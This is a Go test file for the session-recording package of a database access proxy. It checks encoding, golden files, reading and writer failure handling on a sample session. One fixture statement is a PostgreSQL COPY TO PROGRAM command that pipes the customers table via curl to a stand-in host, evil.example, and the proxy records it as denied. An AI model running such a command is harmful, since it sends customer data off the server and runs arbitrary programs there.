package recording_test

import (
	"bytes"
	"errors"
	"flag"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"testing"
	"time"

	"github.com/tidewaiter/tidewaiter/proxy/access"
	"github.com/tidewaiter/tidewaiter/recording"
)

var update = flag.Bool("update", false, "write the golden files anew")

// golden is the recording of session, which replay prints in its own tests.
const golden = "testdata/session.twr"

func at(offset time.Duration) time.Time {
	return time.Date(2026, 11, 22, 14, 17, 1, 42e6, time.UTC).Add(offset)
}

// session is a short session in which everything happens once.
func session() []access.Event {
	var events []access.Event
	add := func(after time.Duration, e access.Event) {
		e.Time = at(after)
		events = append(events, e)
	}
	add(0, access.Event{Kind: access.EventOpened, Opened: &access.Opened{
		Session: "2026-11-22t14-17-01.042-9f3c01ab", DataSource: "data/orders", Protocol: "postgres", Client: "127.0.0.1:52114",
		Identity: access.Identity{
			Namespace: "shop", ServiceAccount: "report-agent", Pod: "report-7d9f", PodUID: "0b2f9a52-6f0e-4f2b-9d57-0f6d0e7f3c11",
			Labels: map[string]string{"app": "report", "team": "shop"}, Process: &access.Process{PID: 4242, UID: 1000, Exe: "/usr/bin/psql"},
		},
		Hello: access.Hello{User: "postgres", Database: "orders", Application: "psql", Protocol: "3.0", Settings: map[string]string{"client_encoding": "UTF8"}},
	}})
	allow := access.Decided{Phase: access.PhaseRun, Effect: "Allow", Policy: "data/reporting", Rule: "read", Revision: 17, Kinds: []string{"Select"}}
	decided := func(number int64, after time.Duration, text string, change func(*access.Decided)) {
		d := allow
		d.Text = text
		if change != nil {
			change(&d)
		}
		add(after, access.Event{Kind: access.EventDecided, Statement: number, Decided: &d})
	}
	ended := func(number int64, after time.Duration, e access.Ended) {
		add(after, access.Event{Kind: access.EventEnded, Statement: number, Ended: &e})
	}
	decided(1, 2*time.Second, "select name, email, ssn\n  from customers\n limit 2", func(d *access.Decided) {
		d.Resources, d.Tags = []string{"Read public.customers"}, []string{"pii/email", "pii/ssn"}
	})
	add(2*time.Second+1e6, access.Event{Kind: access.EventRows, Statement: 1, Rows: &access.Rows{
		Columns: []access.Column{{Name: "name", Type: "text"}, {Name: "email", Type: "text", Masked: "Partial"}, {Name: "ssn", Type: "text", Masked: "Redact"}},
		Values:  [][]access.Value{{{Text: "Ada"}, {Text: "***@example.org", Masked: true}, {Masked: true}}, {{Text: "Grace"}, {Null: true}, {Masked: true}}},
	}})
	ended(1, 2*time.Second+2e6, access.Ended{Outcome: access.OutcomeDone, Tag: "SELECT 2", Rows: 2, Bytes: 96, Masked: 3, Duration: 1310 * time.Microsecond})
	decided(2, 8*time.Second, "copy customers to program 'curl -d @- http://evil.example'", func(d *access.Decided) {
		d.Effect, d.Rule, d.Kinds, d.Features = "Deny", "guard Program", []string{"CopyOut"}, []string{"Program"}
		d.Reason = "It would run a program on the database server."
	})
	ended(2, 8*time.Second, access.Ended{Outcome: access.OutcomeDenied, Message: "tidewaiter: COPY … TO PROGRAM is denied (policy data/reporting, guard Program)", Duration: 90 * time.Microsecond})
	decided(3, 9*time.Second, "select * from orders where id = $1", func(d *access.Decided) { d.Phase = access.PhasePrepare })
	ended(3, 9*time.Second+1e6, access.Ended{Outcome: access.OutcomeDone, Duration: time.Millisecond})
	decided(4, 9*time.Second+1e6, "select * from orders where id = $1", func(d *access.Decided) {
		d.Parameters = []access.Value{{Binary: []byte{0, 0, 0, 7}}, {Null: true}, {Masked: true}}
	})
	ended(4, 9*time.Second+2e6, access.Ended{Outcome: access.OutcomeFailed, Code: "42P01", Message: `relation "orders" does not exist`, Duration: 700 * time.Microsecond})
	decided(5, 12*time.Second, "select * from events", func(d *access.Decided) { d.Rule = "bulk" })
	add(12*time.Second+1e6, access.Event{Kind: access.EventDisagreed, Statement: 5, Note: "the server attests a column of public.customers that the analysis did not see"})
	ended(5, 14*time.Second, access.Ended{Outcome: access.OutcomeStopped, Message: "tidewaiter: stopped after 1000 rows (policy data/reporting, rule bulk, limit rowsPerStatement)", Rows: 1000, Bytes: 123456, Duration: 2 * time.Second})
	decided(6, 20*time.Second, "delete from orders", func(d *access.Decided) {
		d.Observed, d.Reason, d.Flags = true, "no rule allows it", []string{"predicate on pii/ssn"}
	})
	ended(6, 20*time.Second+3e6, access.Ended{Outcome: access.OutcomeDone, Tag: "DELETE 12", Duration: 12 * time.Millisecond})
	add(3*time.Minute, access.Event{Kind: access.EventClosed, Closed: &access.Closed{Reason: "the client ended the session", Statements: 5, Denied: 1, Masked: 3, Rows: 1002, Bytes: 123552}})
	return events
}

// encode returns the recording of events.
func encode(events []access.Event) []byte {
	enc, b := recording.Begin(nil)
	for i := range events {
		var err error
		if b, err = enc.Event(b, &events[i]); err != nil {
			panic(err)
		}
	}
	return enc.End(b, at(3*time.Minute))
}

func TestVersion1IsWrittenAsTheGoldenFile(t *testing.T) {
	got := encode(session())
	if *update {
		if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("the bytes of version 1 have changed (%d, were %d): old recordings could not be verified any more; a change needs a new version", len(got), len(want))
	}
}

func TestARecordingIsReadAsItWasWritten(t *testing.T) {
	raw, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	r := recording.NewReader(bytes.NewReader(raw))
	for i, want := range session() {
		got, err := r.Next()
		if err != nil {
			t.Fatal(err)
		}
		if got.Seq != uint64(i+1) || !reflect.DeepEqual(got.Event, want) {
			t.Errorf("record %d is\n%+v, want\n%+v", got.Seq, got.Event, want)
		}
	}
	if _, err := r.Next(); !errors.Is(err, io.EOF) {
		t.Errorf("after the last event: %v, want io.EOF", err)
	}
	rep := r.Report()
	events := int64(len(session()))
	if rep.State != recording.Complete || rep.Events != events || rep.Records != events+1 || rep.Bytes != int64(len(raw)) {
		t.Errorf("the report is %+v", rep)
	}
	if !rep.First.Equal(at(0)) || !rep.Last.Equal(at(3*time.Minute)) {
		t.Errorf("the recording spans %v to %v", rep.First, rep.Last)
	}
}

func TestAWriterWritesWhatAnEncoderEncodes(t *testing.T) {
	var out bytes.Buffer
	w := recording.NewWriter(&out)
	for _, e := range session() {
		if err := w.Append(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	rep, err := recording.Verify(&out)
	if err != nil || rep.State != recording.Complete || rep.Head != w.Head() {
		t.Errorf("Verify: %+v, %v; want a complete recording with head %s", rep, err, w.Head())
	}
	if err := w.Append(session()[0]); err == nil {
		t.Error("an event was taken after the end mark")
	}
}

func TestAWriterStaysFailedOnceItHasFailed(t *testing.T) {
	w := recording.NewWriter(&failAfter{room: 1000})
	var err error
	for _, e := range session() {
		if err = w.Append(e); err != nil {
			break
		}
	}
	if !errors.Is(err, errFull) {
		t.Fatalf("Append: %v, want %v", err, errFull)
	}
	if err := errors.Join(w.Append(session()[0]), w.Close(), w.Sync()); !errors.Is(err, errFull) {
		t.Errorf("later calls: %v, want %v", err, errFull)
	}
}

var errFull = errors.New("no space left")

type failAfter struct{ room int }

func (f *failAfter) Write(p []byte) (int, error) {
	if f.room -= len(p); f.room < 0 {
		return 0, errFull
	}
	return len(p), nil
}
